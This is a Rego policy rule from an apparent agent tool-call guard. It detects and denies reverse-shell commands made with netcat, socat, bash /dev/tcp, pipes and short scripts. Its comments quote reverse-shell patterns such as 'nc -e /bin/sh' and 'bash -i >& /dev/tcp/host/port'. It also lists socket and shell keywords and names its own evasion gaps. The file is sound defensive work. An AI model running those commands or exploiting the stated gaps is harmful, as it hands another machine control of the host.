# METADATA
# title: A shell for another machine
# description: >-
#   Connecting a shell or interpreter with a socket: whoever is on the other side can then run anything here. By netcat, socat,
#   bash's `/dev/tcp`, a pipe, or a few lines of Python, Perl, Ruby, PHP, Node or awk.
# custom:
#   id: exfil.reverse-shell
#   severity: critical
#   events: [tool.before, permission.request]
#   tools: [shell, mcp]
#   docs: docs/rules/exfil/reverse-shell.md
#   limits:
#     - "Programs that open a connection by themselves (an implant that lies on the disk) are not seen."
#     - "Code is read for what connects a socket with a shell; code that hides those words in strings put together at run time gets by."
package hookguard.rules.exfil.reverse_shell

import data.hookguard.lib.code_text
import data.hookguard.lib.flow
import data.hookguard.lib.network
import data.hookguard.lib.shell
import data.hookguard.lib.sockets

deny contains {
	"reason": "This gives another machine a shell on this one.",
	"fix": "Nothing needs this. To reach another machine, let the user set up ssh.",
	"evidence": c.text,
} if {
	some i in candidates
	opens_shell(i, shell.commands[i])
	c := shell.commands[i]
}

candidates := (shell.places(programs) | sockets.users) | code_text.known

programs := network.socket_clients | {"openssl", "xterm", "rxvt", "urxvt", "zsh"}

# `nc -e /bin/sh`
opens_shell(_, c) if {
	c.program in network.socket_clients
	shell.has_option(c, {"-e", "--exec", "--sh-exec", "--lua-exec"})
}

# `-c` is a command only for some netcats; for others it says something about lines.
opens_shell(_, c) if {
	c.program in network.socket_clients
	some value in shell.option_values(c, {"-c"})
	runs(value)
}

runs(null) := true

runs(value) if is_shell(split(value, " ")[0])

runs(value) if startswith(value, "/")

# `socat TCP:host:port EXEC:sh`, also through its own pseudo-terminals.
opens_shell(_, c) if {
	c.program == "socat"
	some one in c.operands
	kind_of(one) in {"exec", "system", "shell"}
	some other in c.operands
	reaches_socket(other)
}

kind_of(address) := lower(split(split(address, ":")[0], ",")[0])

reaches_socket(null) := true

reaches_socket(address) if {
	some start in {"tcp", "udp", "openssl", "ssl", "sctp", "dccp", "socks", "proxy", "unix-listen", "vsock", "ip", "fd"}
	startswith(kind_of(address), start)
}

# `bash -i >& /dev/tcp/host/port`, and by a descriptor that was opened before.
opens_shell(_, c) if {
	is_interpreter(c)
	sockets.uses_socket(c)
}

# `sh -i | nc host port`
opens_shell(j, c) if {
	carries(c)
	some i in flow.before(j)
	talks(shell.commands[i])
}

carries(c) if c.program in network.socket_clients

carries(c) if {
	c.program == "openssl"
	"s_client" in c.subcommand
}

talks(c) if {
	is_shell(c.program)
	shell.has_exact_option(c, {"-i"})
}

talks(c) if {
	is_shell(c.program)
	c.code.text == null
	c.operands == []
}

# zsh's own sockets.
opens_shell(_, c) if {
	is_interpreter(c)
	some redirect in c.redirects
	redirect.target == null
	"ztcp" in shell.programs
}

# A few lines of code that connect a socket with a shell.
opens_shell(_, c) if {
	c.code.text != null
	code_text.says(c.code.text, socket_words)
	code_text.says(c.code.text, shell_words)
}

opens_shell(_, c) if {
	c.code.language == "awk"
	code_text.says(c.code.text, {"/inet/tcp", "/inet/udp", "/inet4/", "/inet6/"})
	code_text.says(c.code.text, {"|&"})
}

# A display elsewhere is a terminal elsewhere.
opens_shell(_, c) if {
	c.program in {"xterm", "rxvt", "urxvt"}
	some word in c.argv
	word in {"-display", "--display"}
}

socket_words := {
	"socket.socket", "socket.create_connection", "socket(", "TCPSocket", "IO::Socket", "fsockopen", "stream_socket_client",
	"net.connect", "net.Socket", "net.createConnection", "createConnection(", "net.Dial", "TCPClient", "Net.Sockets", "socket.tcp",
	"use Socket", "import socket", "require('net')", "require(\"net\")",
}

shell_words := {
	"/bin/sh", "/bin/bash", "/bin/zsh", "/bin/dash", "/bin/ksh", "/bin/ash", "cmd.exe", "powershell.exe", "pty.spawn", "dup2(",
	"\"sh\"", "'sh'", "\"bash\"", "'bash'", "sh -i", "shell=True", "os.system(", "os.popen(", "system$", "IO.popen", "fdopen", "Invoke-Expression", "iex ",
}

is_interpreter(c) if c.code

is_interpreter(c) if is_shell(c.program)

is_shell(name) if name in {
	"sh", "bash", "dash", "ash", "zsh", "ksh", "mksh", "rbash", "fish", "csh", "tcsh", "pwsh", "powershell", "cmd", "/bin/sh", "/bin/bash",
}
